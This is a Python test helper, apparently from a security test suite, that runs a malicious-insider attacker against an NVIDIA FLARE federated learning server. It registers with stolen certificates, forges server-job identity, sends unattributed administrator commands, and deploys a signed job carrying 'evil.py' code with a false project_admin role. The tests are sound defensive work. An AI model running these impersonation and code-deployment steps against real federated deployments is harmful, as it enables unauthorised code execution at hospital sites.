"""An attacker on FLARE's network: a process that reads from its standard input what to attempt.

It uses FLARE's own cells, certificates and registration, as a malicious administrator of a hospital could.
    {"kit": folder, "port": n, "fqcn": claimed address, "name": claimed client, "attempts": [[method, argument, ...], ...]}
It prints one line of JSON: whether the server admitted it, and the reply to each attempt.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tempfile
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

TIMEOUT_SECONDS = 4.0  # for a reply
ADMINISTRATOR = "administrator"  # instead of an address: a session as FLARE's console opens it
SERVER_JOB = "server_job"  # the name of a run's process on the server


def start_attack(kit: Path, port: int, fqcn: str, name: str, *attempts: list[Any]) -> subprocess.Popen[str]:
    """Starts an attacker; `read_attack_result` waits for it. Several can run at once."""
    env = {**os.environ, "GRPC_VERBOSITY": "NONE", "PYTHONWARNINGS": "ignore"}
    orders = {"kit": str(kit), "port": port, "fqcn": fqcn, "name": name, "attempts": attempts}
    process = subprocess.Popen(
        [sys.executable, __file__],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=env,
    )
    assert process.stdin is not None
    process.stdin.write(json.dumps(orders))
    process.stdin.close()
    return process


def read_attack_result(process: subprocess.Popen[str]) -> dict[str, Any]:
    assert process.stdout is not None
    with process.stdout as output:
        lines = [line for line in output if line.startswith('{"is_admitted"')]
    process.wait(10)
    assert lines, "the attacker itself failed"
    result: dict[str, Any] = json.loads(lines[-1])
    return result


class AttackerNode:
    """A cell with a claimed address and name. Its methods are the attempts."""

    def __init__(self, kit: Path, port: int, fqcn: str, name: str) -> None:
        from nvflare.fuel.f3.cellnet.cell import Cell
        from nvflare.fuel.f3.drivers.driver_params import DriverParams
        from nvflare.private.fed.utils.fed_utils import fobs_initialize

        fobs_initialize()
        self.name, startup = name, kit / "startup"
        self._files = [str(startup / file) for file in ("rootCA.pem", "client.key", "client.crt")]
        ca, key, certificate = self._files
        credentials = {
            DriverParams.CA_CERT.value: ca,
            DriverParams.CLIENT_KEY.value: key,
            DriverParams.CLIENT_CERT.value: certificate,
            DriverParams.CONNECTION_SECURITY.value: "mtls",
        }
        self.cell = Cell(fqcn, f"grpc://localhost:{port}", True, credentials, create_internal_listener=False)
        if fqcn.startswith("server."):  # the process of a run, which FLARE would connect to its parent
            self.cell.core_cell._create_bb_external_connector()
        self.cell.start()

    def register(self) -> None:
        """Registers as FLARE's client does; raises if it is refused. With the server's key no registration is needed."""
        from nvflare.apis.fl_context import FLContext
        from nvflare.apis.signal import Signal
        from nvflare.fuel.sec.authn import set_add_auth_headers_filters
        from nvflare.private.defs import ClientType
        from nvflare.private.fed.authenticator import Authenticator
        from nvflare.private.fed.utils.identity_utils import IdentityAsserter

        ca, key, certificate = self._files
        if self.name == SERVER_JOB:
            signature = IdentityAsserter(key, certificate).sign(f"{self.name}evil", return_str=True)
            set_add_auth_headers_filters(self.cell, self.name, "evil", signature)
            deadline = time.monotonic() + TIMEOUT_SECONDS
            while not self.cell.core_cell.is_cell_reachable("server") and time.monotonic() < deadline:
                time.sleep(0.05)
            return
        authenticator = Authenticator(
            cell=self.cell,
            project_name="hemofed",
            client_name=self.name,
            client_type=ClientType.REGULAR,
            expected_sp_identity="coordinator",
            secure_mode=True,
            root_cert_file=ca,
            private_key_file=key,
            cert_file=certificate,
            msg_timeout=TIMEOUT_SECONDS,
            retry_interval=1.0,
            timeout=TIMEOUT_SECONDS,
        )
        token, signature, session, _ = authenticator.authenticate(FLContext(), Signal())
        set_add_auth_headers_filters(self.cell, self.name, token, signature, session)

    def admin(self, target: str, topic: str, body: str) -> str:
        """Sends an administrator's command directly to a site, without naming who gives it."""
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel

        return self.send(target, CellChannel.CLIENT_MAIN, topic, Message(topic, body))

    def deploy(self, target: str, path_to_touch: str) -> str:
        """Sends a signed job folder with code directly to a site, without asking the server."""
        from nvflare.lighter.utils import load_private_key_file, sign_folders
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel, RequestHeader, TrainingTopic

        archive, (_, key, certificate) = io.BytesIO(), self._files
        with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(archive, "w") as zip_file:
            for name, text in {
                "custom/evil.py": f"open({path_to_touch!r}, 'w')",
                "config/config_fed_client.json": "{}",
            }.items():
                Path(folder, name).parent.mkdir()
                Path(folder, name).write_text(text)
            sign_folders(folder, load_private_key_file(key), certificate)
            for path in Path(folder).rglob("*"):
                zip_file.write(path, path.relative_to(folder))
        message = Message(TrainingTopic.DEPLOY, archive.getvalue())
        meta = {
            "submitter_name": self.name,
            "submitter_org": "hemofed",
            "submitter_role": "project_admin",
            "byoc": True,
        }
        message.set_headers({RequestHeader.JOB_ID: "evil", RequestHeader.JOB_META: meta, RequestHeader.APP_NAME: "app"})
        return self.send(target, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, message)

    def send(self, target: str, channel: str, topic: str, payload: Any = None) -> str:
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
        from nvflare.private.defs import new_cell_message

        request = new_cell_message({}, payload)
        reply = self.cell.send_request(channel, topic, target, request, TIMEOUT_SECONDS)
        body = getattr(reply.payload, "body", reply.payload)
        return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {str(body)[:2000]}"


def query_as_administrator(kit: Path, user: str) -> list[str]:
    """Opens an administrator's session, and asks it for jobs and system information."""
    from nvflare.fuel.flare_api.flare_api import new_secure_session

    session = new_secure_session(user, str(kit), timeout=TIMEOUT_SECONDS)
    return [str(session.list_jobs()), str(session.get_system_info())]


def _main() -> None:
    orders = json.loads(sys.stdin.read())
    kit, replies = Path(orders["kit"]), list[str]()
    try:
        if orders["fqcn"] == ADMINISTRATOR:
            replies = query_as_administrator(kit, orders["name"])
        else:
            node = AttackerNode(kit, orders["port"], orders["fqcn"], orders["name"])
            node.register()
            with ThreadPoolExecutor(16) as pool:
                replies = list(pool.map(lambda attempt: getattr(node, attempt[0])(*attempt[1:]), orders["attempts"]))
        result = {"is_admitted": True, "replies": replies}
    except BaseException as error:
        result = {"is_admitted": False, "error": f"{type(error).__name__}: {error}", "replies": replies}
    sys.stdout.write(json.dumps(result) + "\n")
    sys.stdout.flush()
    os._exit(0)  # FLARE's threads would keep the process alive


if __name__ == "__main__":
    _main()
